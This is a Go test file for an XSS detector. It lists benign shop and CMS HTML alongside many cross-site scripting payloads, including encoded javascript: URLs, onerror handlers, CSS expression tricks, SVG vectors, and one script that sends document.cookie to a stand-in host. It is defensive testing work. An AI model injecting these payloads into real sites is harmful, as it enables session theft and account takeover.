package payload

import (
	"context"
	"encoding/json"
	"testing"
)

func TestInertMarkup(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		// Rich text as shops and CMSs take it.
		{`<p style="text-align:center"><strong>Good snowboard!</strong></p>`, true},
		{`<span style="color: #ff0000;">Sale</span> ends <em>Sunday</em>.`, true},
		{`<table style="width:100%" border="1"><tr><td style="padding:4px">A</td></tr></table>`, true},
		{`<p>Hi</p><iframe width="560" height="315" src="https://www.youtube.com/embed/x" frameborder="0" allowfullscreen></iframe>`, true},
		{`<img src="https://cdn.example.com/x.jpg" srcset="/a.jpg 1x, /b.jpg 2x" style="max-width:100%" alt="Board">`, true},
		{`<a href="mailto:a@example.com" target=_blank>mail</a> or <a href="/contact#form">form</a>`, true},
		{`<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5z"/></svg>`, true},
		{`<div style="background-image:url('https://cdn.example.com/bg.jpg')">hero</div>`, true},
		{`<img src="data:image/png;base64,iVBORw0KGgo=">`, true},
		{`1 < 2 and <b>bold</b>`, true},
		{`no tags at all`, false},

		// Anything that runs, or that the reader cannot be sure of.
		{`<img src=x onerror=alert(1)>`, false},
		{`<a href="javascript:alert(1)">x</a>`, false},
		{`<a href="jav&#x09;ascript:alert(1)">x</a>`, false},
		{`<a href="&#106;avascript:alert(1)">x</a>`, false},
		{`<a href=" javascript:alert(1)">x</a>`, false},
		{`<iframe src="data:text/html,<script>alert(1)</script>">`, false},
		{`<iframe srcdoc="x">`, false},
		{`<img src="data:image/svg+xml,<svg onload=alert(1)>">`, false},
		{`<div style="background:url(javascript:alert(1))">`, false},
		{`<div style="x:expr/**/ession(alert(1))">`, false},
		{`<div style="x:\65xpression(alert(1))">`, false},
		{`<div style="behavior:url(x.htc)">`, false},
		{`<script>alert(1)</script>`, false},
		{`<style>@import 'x.css';</style>`, false},
		{`<p title="</p><img src=x onerror=alert(1)>">`, false},
		{`<!-- x --><p>y</p>`, false},
		{`<p>x</p><form action="/x"><input name=q></form>`, false},
		{`<math><a href="x">y</a></math>`, false},
		{`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, false},
		{`<svg><a xlink:href="javascript:alert(1)">x</a></svg>`, false},
		{`<iframe>alert(document.domain)`, false},
		{`<b>x</b><scrscriptipt>`, false},
		{`<img src=x alt=a=b>`, false},
		{`<p class="a"`, false},
	}
	for _, tt := range tests {
		if got := inertMarkup([]byte(tt.in)); got != tt.want {
			t.Errorf("inertMarkup(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

// Rich text in a shop's or CMS's API passes; the same fields with
// script in them block.
func TestRichTextFields(t *testing.T) {
	d := newTestDetector(t)
	body := func(field, html string) string {
		b, _ := json.Marshal(map[string]any{"product": map[string]string{"title": "Board", field: html}})
		return string(b)
	}
	for _, field := range []string{"body_html", "content", "description"} {
		for _, tc := range []struct {
			html  string
			block bool
		}{
			{`<p style="text-align:center"><strong>Good snowboard!</strong></p>`, false},
			{`<div class="note" style="color:red;font-weight:bold">Careful</div>`, false},
			{`<p>Watch:</p><iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>`, false},
			{`<img src="https://cdn.example.com/s/x.jpg" style="max-width:100%;height:auto" alt="Board">`, false},
			{`<svg width="24" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>`, false},
			{`<p style="color:red">Sale</p><img src=x onerror=alert(document.domain)>`, true},
			{`<p>Hi</p><iframe src="javascript:alert(1)"></iframe>`, true},
			{`<p style="color:red">x</p><script>fetch('//x.example/?c='+document.cookie)</script>`, true},
		} {
			v := d.Detect(context.Background(), post("application/json", body(field, tc.html)))
			if blocked := v.Confidence >= 0.8; blocked != tc.block {
				t.Errorf("%s %q: confidence %.2f %q, want blocked %v", field, tc.html, v.Confidence, v.Messages, tc.block)
			}
		}
	}
}

// FuzzInertMarkup holds inertMarkup to the text path's own reading of
// tags: markup it calls inert never holds a tag that runs script.
func FuzzInertMarkup(f *testing.F) {
	for _, s := range []string{
		`<p style="color:red">x</p>`, `<a href="/x">y</a>`, `<img src=x onerror=alert(1)>`,
		`<a href="&#106;avascript:alert(1)">x</a>`, `<iframe src="https://x/">`, `<b>`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v := []byte(s)
		if !inertMarkup(v) {
			return
		}
		for i := range v {
			if v[i] == '<' {
				if _, runs := tagRuns(v, i, false); runs {
					t.Fatalf("inert markup %q has a tag that runs script at %d", s, i)
				}
			}
		}
	})
}
